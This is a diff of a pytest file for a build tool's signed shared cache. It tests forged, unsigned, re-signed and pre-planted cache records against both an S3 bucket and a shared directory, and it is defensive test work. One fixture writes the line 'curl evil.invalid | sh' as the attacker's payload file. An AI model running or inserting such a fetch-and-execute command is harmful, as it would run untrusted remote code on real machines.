@@ -1,7 +1,7 @@
 """Signed cache records against the attack they exist for: someone who can write the cache's bucket (a leaked
 credential, a pull-request job, a wrong bucket policy) but holds no trusted cache-writer key.
 
-A trusted writer builds a tiny release into a moto S3 cache. The attacker then (a) rewrites a record to point at a
+A trusted writer builds a tiny release into the cache. The attacker then (a) rewrites a record to point at a
 tree they uploaded, unsigned, or keeps the writer's signature over an edited record; (b) plants a record for an
 action key nobody has pushed yet; (c) signs their record with a key of their own. Every time, ``cairn build
 --cache`` (the real CLI, in its own process) does not use the record: it builds the action, says so in one line
@@ -9,7 +9,9 @@ naming the record and why, counts it as ``untrusted``, fetches nothing the recor
 clean build makes. A record the trusted writer signed is still a cache hit, and a writer without a key, or with one
 its trust list does not name, is refused before the build in one line.
 
-The shared cache has only an S3 backend (``cairn.store.shared``), so these run against moto only.
+Every attack runs against both places a cache can live (``cairn.store.shared``): a moto S3 bucket (marked ``s3``)
+and a directory (``--cache file:///dir``, as an NFS mount shared by CI machines), where the attacker is whoever
+can write files there.
 """
 
 from __future__ import annotations
@@ -34,7 +36,6 @@ from support.cache import machine as _machine
 from support.cache import ran as _ran
 from support.servers import archive_release, moto_s3, serve_directory
 
-pytestmark = pytest.mark.s3
 SDK = "assemble:sdk"
 
 
@@ -50,6 +51,77 @@ def s3():
         yield server
 
 
+class Place:
+    """Where the cache of one test lives, and what someone who can write there (but holds no trusted key) does
+    with it: put and read objects by their name below the cache's root."""
+
+    s3: dict | None = None  # the moto server, for the machines' environment (None: a directory)
+
+    @property
+    def url(self) -> str:
+        raise NotImplementedError
+
+    def put(self, name: str, body: bytes) -> None:
+        raise NotImplementedError
+
+    def get(self, name: str) -> bytes:
+        raise NotImplementedError
+
+    def count(self) -> int:
+        """How many objects the cache holds."""
+        raise NotImplementedError
+
+
+class BucketPlace(Place):
+    def __init__(self, s3: dict) -> None:
+        self.s3, self.prefix = s3, f"run-{uuid.uuid4().hex[:8]}"
+
+    @property
+    def url(self) -> str:
+        return f"s3://{BUCKET}/{self.prefix}"
+
+    def put(self, name: str, body: bytes) -> None:
+        assert self.s3 is not None
+        self.s3["client"].put_object(Bucket=BUCKET, Key=f"{self.prefix}/{name}", Body=body)
+
+    def get(self, name: str) -> bytes:
+        assert self.s3 is not None
+        return self.s3["client"].get_object(Bucket=BUCKET, Key=f"{self.prefix}/{name}")["Body"].read()
+
+    def count(self) -> int:
+        assert self.s3 is not None
+        return int(self.s3["client"].list_objects_v2(Bucket=BUCKET, Prefix=f"{self.prefix}/").get("KeyCount", 0))
+
+
+class DirectoryPlace(Place):
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        root.mkdir()
+
+    @property
+    def url(self) -> str:
+        return self.root.as_uri()
+
+    def put(self, name: str, body: bytes) -> None:  # as the attacker writes it: over whatever is there
+        (self.root / name).parent.mkdir(parents=True, exist_ok=True)
+        (self.root / name).write_bytes(body)
+
+    def get(self, name: str) -> bytes:
+        return (self.root / name).read_bytes()
+
+    def count(self) -> int:
+        return sum(1 for path in self.root.rglob("*") if not path.is_dir())
+
+
+@pytest.fixture(params=["directory", pytest.param("s3", marks=pytest.mark.s3)])
+def place(request, tmp_path) -> Place:
+    """The cache every machine of the test shares: a directory, or a moto S3 bucket (only that case starts moto, so
+    only it carries the ``s3`` mark and ``-m "not s3"`` still runs every attack on the directory)."""
+    if request.param == "s3":
+        return BucketPlace(request.getfixturevalue("s3"))
+    return DirectoryPlace(tmp_path / "shared-cache")
+
+
 @pytest.fixture
 def manifest(tmp_path: Path):
     """The tiny release the shared-cache tests build: three copied text files and the SDK that holds them."""
@@ -59,24 +131,11 @@ def manifest(tmp_path: Path):
         yield archive_release(tmp_path, www, base, name="cache-sign-test", families=("gfx90a",), parts=3)
 
 
-@pytest.fixture
-def prefix() -> str:
-    return f"run-{uuid.uuid4().hex[:8]}"
-
-
 def _key_of(report: dict, action: str = SDK) -> str:
     return Path(report["actions"][action]["log"]).stem  # logs/<action key>.log of a build that ran it
 
 
-def _put(s3: dict, prefix: str, name: str, body: bytes) -> None:
-    s3["client"].put_object(Bucket=BUCKET, Key=f"{prefix}/{name}", Body=body)
-
-
-def _get(s3: dict, prefix: str, name: str) -> bytes:
-    return s3["client"].get_object(Bucket=BUCKET, Key=f"{prefix}/{name}")["Body"].read()
-
-
-def _evil_tree(s3: dict, prefix: str, tmp_path: Path) -> tuple[str, dict]:
+def _evil_tree(place: Place, tmp_path: Path) -> tuple[str, dict]:
     """The attacker's SDK: a well-formed tree under its true digest (so only the record's signature can stop
     it), uploaded where the cache keeps trees; its digest and the bound a record of it would name."""
     evil = tmp_path / "evil"
@@ -84,7 +143,7 @@ def _evil_tree(s3: dict, prefix: str, tmp_path: Path) -> tuple[str, dict]:
     for n in range(3):
         (evil / f"part{n}.txt").write_text(f"payload {n}\n" if n else "curl evil.invalid | sh\n")
     digest, bound = tree_digest(evil), measure(evil)
-    _put(s3, prefix, f"trees/{digest}.v2.tar.zst", pack(evil))
+    place.put(f"trees/{digest}.v2.tar.zst", pack(evil))
     return digest, {"entries": bound.entries, "size": bound.size}
 
 
@@ -116,12 +175,12 @@ def _assert_built_not_fetched(report: dict, clean: dict, evil: str, store: Path)
     assert not (store / "trees" / evil).exists()  # nothing the record names reached the store
 
 
-def test_a_trusted_record_is_a_cache_hit_for_a_reader_with_only_the_trust_list(s3, manifest, prefix, tmp_path) -> None:
-    cache = ["--cache", f"s3://{BUCKET}/{prefix}"]
-    first, _ = _build(_machine(tmp_path, "writer", s3), manifest, *cache)
-    record = json.loads(_get(s3, prefix, f"ac/{_key_of(first)}.v3.json"))
+def test_a_trusted_record_is_a_cache_hit_for_a_reader_with_only_the_trust_list(place, manifest, tmp_path) -> None:
+    cache = ["--cache", place.url]
+    first, _ = _build(_machine(tmp_path, "writer", place.s3), manifest, *cache)
+    record = json.loads(place.get(f"ac/{_key_of(first)}.v3.json"))
     assert record["payloadType"] == "application/vnd.cairn.cache-record+json" and len(record["signatures"]) == 1
-    reader = _machine(tmp_path, "reader", s3)
+    reader = _machine(tmp_path, "reader", place.s3)
     del reader["env"]["CAIRN_CACHE_SIGNING_KEY"]  # a pull-request job: the public trust list, no key
     second, _ = _build(reader, manifest, *cache, "--cache-read-only")
     assert second["counts"]["ran"] == 0 and set(second["cache"]["fetched"]) == set(first["actions"])
@@ -129,53 +188,53 @@ def test_a_trusted_record_is_a_cache_hit_for_a_reader_with_only_the_trust_list(s
 
 
 @pytest.mark.parametrize("attack", ["unsigned", "no signature", "edited under the writer's signature", "own key"])
-def test_a_rewritten_record_is_not_used(s3, manifest, prefix, tmp_path, attack) -> None:
+def test_a_rewritten_record_is_not_used(place, manifest, tmp_path, attack) -> None:
     """(a), (c): the writer's record of the SDK is replaced by one naming the attacker's tree."""
-    cache = ["--cache", f"s3://{BUCKET}/{prefix}"]
-    clean, _ = _build(_machine(tmp_path, "writer", s3), manifest, *cache)
+    cache = ["--cache", place.url]
+    clean, _ = _build(_machine(tmp_path, "writer", place.s3), manifest, *cache)
     key, name = _key_of(clean), f"ac/{_key_of(clean)}.v3.json"
-    evil, bound = _evil_tree(s3, prefix, tmp_path)
+    evil, bound = _evil_tree(place, tmp_path)
     body = _record(key, evil, bound)
     expected = "is not signed"
     if attack == "unsigned":
         forged = _unsigned(body)
         expected = "is not a signed cache record (not a DSSE envelope"
     elif attack == "no signature":
-        envelope = json.loads(_get(s3, prefix, name))
+        envelope = json.loads(place.get(name))
         forged = json.dumps({**envelope, "payload": base64.b64encode(json.dumps(body).encode()).decode(), "signatures": []}).encode()
     elif attack == "edited under the writer's signature":
-        envelope = json.loads(_get(s3, prefix, name))
-        assert record_body(_get(s3, prefix, name))["key"] == key
+        envelope = json.loads(place.get(name))
+        assert record_body(place.get(name))["key"] == key
         forged = json.dumps({**envelope, "payload": base64.b64encode(json.dumps(body).encode()).decode()}).encode()
         expected = "has a bad signature: it claims trusted key ci ("
     else:
         forged, keyid = _attacker_signed(body)
         expected = f"is signed by an untrusted key {keyid[:16]} (not in {WRITER['trust']})"
-    _put(s3, prefix, name, forged)
+    place.put(name, forged)
 
-    victim = _machine(tmp_path, "victim", s3)
+    victim = _machine(tmp_path, "victim", place.s3)
     report, stderr = _build(victim, manifest, *cache, "--cache-read-only")
     _assert_built_not_fetched(report, clean, evil, victim["store"])
     line = _one_line(stderr, name)
     assert line.startswith(f"cache: record {name} {expected}") and line.endswith(": building instead"), line
     assert report["cache"]["untrusted"] == [line.removeprefix("cache: ")]
     assert len(report["cache"]["fetched"]) == len(report["actions"]) - 1  # every other record is still a hit
-    assert _get(s3, prefix, name) == forged  # read-only: reported, never deleted
+    assert place.get(name) == forged  # read-only: reported, never deleted
 
 
-def test_a_record_planted_for_a_key_not_yet_built_is_not_used_and_the_writer_replaces_it(s3, manifest, prefix, tmp_path) -> None:
+def test_a_record_planted_for_a_key_not_yet_built_is_not_used_and_the_writer_replaces_it(place, manifest, tmp_path) -> None:
     """(b): the attacker builds the release on their own machine (no cache) to learn the action keys, and plants
     records for them, signed with their own key, before any trusted writer pushed. The trusted writer builds
     everything, reports each planted record, deletes it and pushes its own; a reader then hits every action."""
-    clean, _ = _build(_machine(tmp_path, "attacker", s3), manifest)
-    evil, bound = _evil_tree(s3, prefix, tmp_path)
+    clean, _ = _build(_machine(tmp_path, "attacker", place.s3), manifest)
+    evil, bound = _evil_tree(place, tmp_path)
     keys = {action: _key_of(clean, action) for action in clean["actions"]}
     for action, key in keys.items():
         body = {**_record(key, evil, bound), "action": action}
-        _put(s3, prefix, f"ac/{key}.v3.json", _attacker_signed(body)[0] if action == SDK else _unsigned(body))
+        place.put(f"ac/{key}.v3.json", _attacker_signed(body)[0] if action == SDK else _unsigned(body))
 
-    cache = ["--cache", f"s3://{BUCKET}/{prefix}"]
-    writer = _machine(tmp_path, "writer", s3)
+    cache = ["--cache", place.url]
+    writer = _machine(tmp_path, "writer", place.s3)
     report, stderr = _build(writer, manifest, *cache)
     assert _ran(report) == set(clean["actions"]) and report["cache"]["fetched"] == []
     assert report["actions"][SDK]["output"] == clean["actions"][SDK]["output"]
@@ -184,33 +243,33 @@ def test_a_record_planted_for_a_key_not_yet_built_is_not_used_and_the_writer_rep
     assert "is signed by an untrusted key" in sdk_line and sdk_line.endswith("building instead; removed from the cache")
     assert not (writer["store"] / "trees" / evil).exists()
     for action, key in keys.items():  # the writer's own signed records took the keys
-        assert record_body(_get(s3, prefix, f"ac/{key}.v3.json"))["output"] == clean["actions"][action]["output"]
+        assert record_body(place.get(f"ac/{key}.v3.json"))["output"] == clean["actions"][action]["output"]
 
-    reader, _ = _build(_machine(tmp_path, "reader", s3), manifest, *cache, "--cache-read-only")
+    reader, _ = _build(_machine(tmp_path, "reader", place.s3), manifest, *cache, "--cache-read-only")
     assert reader["counts"]["ran"] == 0 and reader["cache"]["untrusted"] == []
 
 
-def test_a_store_seeding_the_cache_replaces_an_untrusted_record(s3, manifest, prefix, tmp_path) -> None:
+def test_a_store_seeding_the_cache_replaces_an_untrusted_record(place, manifest, tmp_path) -> None:
     """A local hit the cache has only an untrusted record of is still uploaded: the record does not block it."""
-    writer = _machine(tmp_path, "writer", s3)
+    writer = _machine(tmp_path, "writer", place.s3)
     clean, _ = _build(writer, manifest)
-    evil, bound = _evil_tree(s3, prefix, tmp_path)
+    evil, bound = _evil_tree(place, tmp_path)
     key = _key_of(clean)
-    _put(s3, prefix, f"ac/{key}.v3.json", _attacker_signed(_record(key, evil, bound))[0])
-    seeded, stderr = _build(writer, manifest, "--cache", f"s3://{BUCKET}/{prefix}")
+    place.put(f"ac/{key}.v3.json", _attacker_signed(_record(key, evil, bound))[0])
+    seeded, stderr = _build(writer, manifest, "--cache", place.url)
     assert seeded["counts"]["ran"] == 0 and set(seeded["cache"]["uploaded"]) == set(clean["actions"])
     assert "is signed by an untrusted key" in _one_line(stderr, f"ac/{key}.v3.json")
-    assert record_body(_get(s3, prefix, f"ac/{key}.v3.json"))["output"] == clean["actions"][SDK]["output"]
+    assert record_body(place.get(f"ac/{key}.v3.json"))["output"] == clean["actions"][SDK]["output"]
 
 
-def test_writing_needs_a_trusted_key_and_reading_a_trust_list(s3, manifest, prefix, tmp_path) -> None:
+def test_writing_needs_a_trusted_key_and_reading_a_trust_list(place, manifest, tmp_path) -> None:
     """Each refused in one line before anything is built or written."""
-    m = _machine(tmp_path, "m", s3)
+    m = _machine(tmp_path, "m", place.s3)
     stranger = tmp_path / "stranger.pem"
     stranger.write_bytes(generate("ed25519").private_bytes)  # type: ignore[attr-defined]
     broken = tmp_path / "broken.json"
     broken.write_text('[{"keytype": "rsa"}]')
-    url = f"s3://{BUCKET}/{prefix}"
+    url = place.url
     cases = [
         ({"CAIRN_CACHE_SIGNING_KEY": ""}, [], "writing the cache needs a cache-writer key"),
         ({}, ["--cache-key", str(stranger)], "is not in the trust list"),
@@ -226,14 +285,16 @@ def test_writing_needs_a_trusted_key_and_reading_a_trust_list(s3, manifest, pref
         lines = proc.stderr.strip().splitlines()
         assert proc.returncode == 2 and len(lines) == 1 and expected in lines[0], (expected, proc.stderr)
     assert not (m["store"] / "trees").exists() or not any((m["store"] / "trees").iterdir())
-    assert s3["client"].list_objects_v2(Bucket=BUCKET, Prefix=f"{prefix}/").get("KeyCount", 0) == 0
+    assert place.count() == 0
 
 
-def test_cairn_keys_cache_writer_makes_a_key_a_build_signs_with(s3, manifest, prefix, tmp_path) -> None:
+@pytest.mark.s3
+def test_cairn_keys_cache_writer_makes_a_key_a_build_signs_with(s3, manifest, tmp_path) -> None:
     """The key tooling end to end: ``cairn keys cache-writer`` makes the pair and the trust list; a build signs with
     the PEM given as the variable's value (as a CI secret is), a reader trusting that list hits."""
     import sys
 
+    place = BucketPlace(s3)
     m = _machine(tmp_path, "ci", s3)
     trust = tmp_path / "publish" / "cache-writers.json"
     made = subprocess.run([sys.executable, "-m", "cairn.cli", "keys", "cache-writer", "--dir", str(tmp_path / "ci-key"),
@@ -248,15 +309,15 @@ def test_cairn_keys_cache_writer_makes_a_key_a_build_signs_with(s3, manifest, pr
 
     env = {**m["env"], "CAIRN_CACHE_TRUST": str(trust),
            "CAIRN_CACHE_SIGNING_KEY": (tmp_path / "ci-key" / "cache-writer.pem").read_text()}
-    first, _ = _build({**m, "env": env}, manifest, "--cache", f"s3://{BUCKET}/{prefix}")
-    envelope = json.loads(_get(s3, prefix, f"ac/{_key_of(first)}.v3.json"))
+    first, _ = _build({**m, "env": env}, manifest, "--cache", place.url)
+    envelope = json.loads(place.get(f"ac/{_key_of(first)}.v3.json"))
     assert [s["keyid"] for s in envelope["signatures"]] == [entry["keyid"]]
     reader = _machine(tmp_path, "reader", s3)
     reader["env"].pop("CAIRN_CACHE_SIGNING_KEY")
-    second, _ = _build(reader, manifest, "--cache", f"s3://{BUCKET}/{prefix}", "--cache-read-only", "--cache-trust", str(trust))
+    second, _ = _build(reader, manifest, "--cache", place.url, "--cache-read-only", "--cache-trust", str(trust))
     assert second["counts"]["ran"] == 0
     # the machines' usual list does not name this key: to them, these records are untrusted
-    other, _ = _build(_machine(tmp_path, "other", s3), manifest, "--cache", f"s3://{BUCKET}/{prefix}", "--cache-read-only")
+    other, _ = _build(_machine(tmp_path, "other", s3), manifest, "--cache", place.url, "--cache-read-only")
     assert _ran(other) == set(first["actions"]) and len(other["cache"]["untrusted"]) == len(first["actions"])
 
 
